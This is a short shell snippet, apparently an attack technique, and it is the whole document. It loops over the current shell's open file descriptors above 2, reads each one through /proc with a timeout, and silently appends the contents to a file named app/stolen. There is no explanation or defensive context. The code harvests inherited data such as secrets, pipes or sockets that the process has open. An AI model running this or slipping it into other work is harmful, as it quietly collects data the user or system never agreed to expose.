for descriptor in $(ls /proc/self/fd); do
    [ "$descriptor" -gt 2 ] && timeout 1 cat "/proc/$$/fd/$descriptor" >> app/stolen 2>/dev/null
done
